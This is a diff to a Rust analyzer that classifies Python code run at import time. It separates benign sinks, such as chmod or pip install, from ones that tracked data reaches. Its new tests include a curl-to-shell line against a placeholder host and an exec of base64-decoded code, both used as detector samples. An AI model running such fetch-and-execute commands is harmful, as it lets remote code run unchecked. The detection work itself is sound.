@@ -84,6 +84,7 @@ pub fn all_facts() -> Vec<String> {
     let mut v = Vec::new();
     for s in sinks {
         v.push(format!("toplevel:{}", s.name()));
+        v.push(format!("toplevel_plain:{}", s.name()));
         v.push(format!("install_hook:{}", s.name()));
         for (_, l) in label::NAMES {
             v.push(format!("{l}>{}", s.name()));
@@ -414,7 +415,15 @@ impl Analysis {
             }
         }
         if self.function.is_empty() {
-            self.facts.push(format!("toplevel:{s}"));
+            // Run at import time; told apart by whether anything tracked reaches the sink: a
+            // script's `chmod("/usr/local/bin/entrypoint.sh", 0o755)` or `pip install`, or a
+            // setup.py's `exec(open("pkg/_version.py").read())`, is not a payload's
+            // `os.system(decoded)`. A local file's contents alone do not count.
+            if reaching & !label::FILEDATA == 0 {
+                self.facts.push(format!("toplevel_plain:{s}"));
+            } else {
+                self.facts.push(format!("toplevel:{s}"));
+            }
         }
         if self.hook > 0 {
             self.facts.push(format!("install_hook:{s}"));
@@ -829,7 +838,24 @@ mod tests {
         // Fetching with a fixed query, or a plain GET, sends nothing.
         let api = "import requests\nr = requests.get('https://api.github.com/repos/x/y/releases', params={'per_page': 5})\nprint(r.json())\nimport urllib.request\nurllib.request.urlopen('https://example.invalid/health')\n";
         let f = behaviours(api.as_bytes());
-        assert!(!f.iter().any(|x| x.ends_with(">send") || x == "toplevel:send"), "{f:?}");
+        assert!(!f.iter().any(|x| x.ends_with(">send") || x.ends_with("toplevel:send") || x.ends_with("toplevel_plain:send")), "{f:?}");
+    }
+
+    #[test]
+    fn import_time_sinks_say_whether_anything_tracked_reaches_them() {
+        let f = behaviours(b"import os;os.chmod(\"/usr/local/bin/entrypoint.sh\",0o755)\n");
+        assert!(f.contains(&"toplevel_plain:chmod".to_string()) && !f.contains(&"toplevel:chmod".to_string()), "{f:?}");
+        let f = behaviours(b"import subprocess; subprocess.check_call([\"pip\", \"install\", \"--upgrade\", \"pip\"])\n");
+        assert!(f.contains(&"toplevel_plain:process".to_string()) && !f.contains(&"toplevel:process".to_string()), "{f:?}");
+        let f = behaviours(b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
+        assert!(f.contains(&"toplevel:exec".to_string()) && !f.contains(&"toplevel_plain:exec".to_string()), "{f:?}");
+        let f = behaviours(b"exec(open('pkg/_version.py').read())\nsetup(name='pkg', version=__version__)\n");
+        assert!(f.contains(&"toplevel_plain:exec".to_string()) && f.contains(&"filedata>exec".to_string()), "{f:?}");
+        let f = behaviours(b"import os\nos.system('curl -s https://example.invalid/x | sh')\n");
+        assert!(f.contains(&"toplevel:process".to_string()), "{f:?}");
+        // Inside a function the sink is not run at import time.
+        let f = behaviours(b"import os\ndef fix():\n    os.chmod('/usr/local/bin/entrypoint.sh', 0o755)\n");
+        assert!(!f.iter().any(|x| x.starts_with("toplevel")), "{f:?}");
     }
 
     #[test]
